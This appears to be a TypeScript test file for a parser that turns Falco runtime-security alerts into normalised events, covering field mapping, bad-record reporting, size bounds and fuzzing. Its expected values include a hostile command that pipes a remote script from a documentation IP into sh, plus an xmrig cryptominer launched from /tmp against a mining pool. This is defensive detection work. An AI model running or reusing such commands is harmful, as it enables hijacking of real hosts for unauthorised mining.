import assert from 'node:assert/strict';
import { test } from 'node:test';
import {
  countsOf,
  cutLineCase,
  fileInput,
  memoryInput,
  readAll,
  runLineFuzz,
  runSourceContract,
  TEST_CONTEXT,
} from './contract.js';
import { falco } from './falco.js';
import { sniffSource } from './index.js';

const good = fileInput('test/fixtures/falco/events.json');
const bad = fileInput('test/fixtures/falco/bad.json');
runSourceContract({
  source: falco,
  good,
  bad,
  // the alert file copied while an alert was written: it ends inside the pool address
  cut: cutLineCase(good, 2, '"fd.rip":"', '203.0.113.250'),
});

test('evt.type decides the verb; every alert is an indicator carrying its rule and priority', async () => {
  const { events } = await readAll(falco, good);
  assert.deepEqual(
    events.map((e) => [e.event.action, e.rule?.name, e.rule?.category, e.coalmine.ref.line]),
    [
      ['exec', 'Drop and execute new binary in container', 'Critical', 1],
      ['exec', 'Detect crypto miners using the Stratum protocol', 'Critical', 2],
      ['connect', 'Detect outbound connections to common miner pool ports', 'Critical', 3],
      ['exec', 'Terminal shell in container', 'Notice', 4],
      ['process-seen', 'Read sensitive file untrusted', 'Warning', 5],
      ['process-seen', 'Write below etc', 'Error', 7],
    ],
  );
  for (const e of events) {
    assert.deepEqual(e.event.type, ['indicator']);
    assert.equal(e.event.dataset, 'falco.alert');
  }
  // line 6 is a k8s_audit alert: another Falco source, counted unused
  assert.equal((await countsOf(falco, good)).unused, 1);
});

test('a drift alert on the miner: process, parent, user, container, image and pod from output_fields', async () => {
  const { events } = await readAll(falco, good);
  const e = events[0];
  assert.equal(e['@timestamp'], '2026-12-01T10:00:05.250Z');
  assert.equal(e.event.id, '6b1e7c2a-52a1-4b8e-9c3d-0f1e2d3c4b5a');
  assert.deepEqual(e.host, { name: 'worker-2', os: { platform: 'linux' } });
  assert.deepEqual(e.user, { name: 'root', id: '0' });
  assert.equal(e.process?.pid, 4120);
  assert.equal(e.process?.name, 'xmrig');
  assert.equal(e.process?.executable, '/tmp/.x/xmrig');
  assert.equal(e.process?.working_directory, '/tmp/.x/');
  assert.deepEqual(e.process?.args?.slice(0, 3), ['xmrig', '-o', 'stratum+tcp://pool.supportxmr.com:3333']);
  assert.match(e.process?.command_line ?? '', /^xmrig -o stratum\+tcp:/);
  assert.deepEqual(e.process?.parent, {
    pid: 4101,
    name: 'sh',
    command_line: 'sh -c curl -fsSL http://198.51.100.7/x.sh | sh',
  });
  assert.deepEqual(e.container, {
    id: '9f1c2a4b6d8e',
    name: 'exporter',
    image: { name: 'docker.io/kinsing/node-exporter', tag: 'latest' },
  });
  assert.deepEqual(e.orchestrator, { namespace: 'default', resource: { type: 'pod', name: 'node-exporter-x7k2p' } });
  assert.equal(e.original.priority, 'Critical');
  assert.deepEqual(e.original.tags, ['container', 'maturity_stable', 'mitre_persistence', 'TA0003', 'PCI_DSS_11.5.1']);
});

test('a connect alert has its two ends and transport; a host alert has no container', async () => {
  const { events } = await readAll(falco, good);
  const c = events[2];
  assert.deepEqual(c.source, { ip: '10.244.1.17', port: 41872 });
  assert.deepEqual(c.destination, { ip: '198.51.100.23', port: 3333 });
  assert.deepEqual(c.network, { direction: 'outbound', transport: 'tcp' });
  const host = events[5];
  assert.equal(host.container, undefined);
  assert.equal(host.orchestrator, undefined);
  assert.equal(host.process?.executable, '/usr/bin/apt-get');
});

test('fd.name alone gives the ends; <NA> fields are absent; a digest joins the image', async () => {
  const line = JSON.stringify({
    output: 'x',
    priority: 'Warning',
    rule: 'Outbound to pool',
    time: '2026-12-01T10:00:00.000000001Z',
    output_fields: {
      'evt.type': 'connect',
      'fd.name': '10.0.0.5:40000->203.0.113.9:14444',
      'proc.name': '<NA>',
      'proc.exe': 'kworker',
      'container.id': 'abcdef012345',
      'container.image': `quay.io/x/y:2@sha256:${'0f'.repeat(32)}`,
      'container.privileged': true,
      'k8s.node.name': 'node-7',
    },
  });
  const { events, issues } = await readAll(falco, memoryInput('f.json', `${line}\n`));
  assert.deepEqual(issues, []);
  const e = events[0];
  assert.equal(e.host?.name, 'node-7');
  assert.deepEqual(e.source, { ip: '10.0.0.5', port: 40000 });
  assert.deepEqual(e.destination, { ip: '203.0.113.9', port: 14444 });
  assert.equal(e.process, undefined, 'proc.exe that is not a path is not an executable; <NA> is no name');
  assert.deepEqual(e.container, {
    id: 'abcdef012345',
    image: { name: 'quay.io/x/y', tag: '2', hash: { all: [`sha256:${'0f'.repeat(32)}`] } },
    security_context: { privileged: true },
  });
});

test('bad alerts are reported by line with a reason, the good ones are read', async () => {
  const { events, issues } = await readAll(falco, bad);
  assert.deepEqual(
    issues.map((i) => [i.line, i.code]),
    [
      [2, 'FALCO_BAD_JSON'],
      [3, 'FALCO_BAD_RECORD'],
      [4, 'FALCO_BAD_RECORD'],
      [5, 'FALCO_BAD_RECORD'],
      [6, 'FALCO_BAD_RECORD'],
    ],
  );
  assert.match(issues[1].reason, /time "ten past ten" is not a time/);
  assert.match(issues[2].reason, /without a rule name/);
  assert.match(issues[3].reason, /output_fields is not an object/);
  assert.deepEqual(
    events.map((e) => e.coalmine.ref.line),
    [1, 8],
  );
  assert.equal((await countsOf(falco, bad)).unused, 1);
});

test('hostile fields are bounded: long command lines, many fields, many tags', async () => {
  const fields: Record<string, unknown> = {
    'evt.type': 'execve',
    'proc.pid': 1,
    'proc.cmdline': `x ${'a '.repeat(50_000)}`,
    'proc.exepath': `/${'p'.repeat(10_000)}`,
  };
  for (let i = 0; i < 500; i++) fields[`f.${i}`] = 'v'.repeat(5000);
  const line = JSON.stringify({
    output: 'o'.repeat(100_000),
    priority: 'Notice',
    rule: 'r'.repeat(2000),
    time: '2026-12-01T10:00:00Z',
    output_fields: fields,
    tags: Array.from({ length: 1000 }, (_, i) => `t${i}`),
  });
  const context = { ...TEST_CONTEXT, maxLineBytes: 4 * 1024 * 1024 };
  const { events, issues } = await readAll(falco, memoryInput('h.json', `${line}\n`, { hostHint: 'h' }), context);
  assert.deepEqual(issues, []);
  const e = events[0];
  assert.equal(e.process?.args?.length, 128);
  assert.ok((e.process?.executable?.length ?? 0) < 4200);
  assert.ok((e.rule?.name?.length ?? 0) < 600);
  assert.ok(JSON.stringify(e.original).length < 300_000);
  assert.equal((e.original.tags as string[]).length, 32);
  assert.equal(e.host?.name, 'h');
});

runLineFuzz(falco, {
  from: [good],
  seed: 4242,
  keys: /"(time|rule|priority|output_fields|proc\.pid|proc\.cmdline|fd\.rip|container\.id|source)":/g,
  junk: ['"<NA>"'],
});

test('Falco alerts sniff as falco; Suricata EVE and coalmine NDJSON do not', () => {
  assert.equal(sniffSource(good)?.name, 'falco');
  assert.equal(falco.sniff('{"@timestamp":"2026-12-01T10:00:00Z","event":{"action":"exec"}}\n', good), 0);
  assert.equal(sniffSource(fileInput('test/fixtures/suricata/eve.json'))?.name, 'suricata');
});
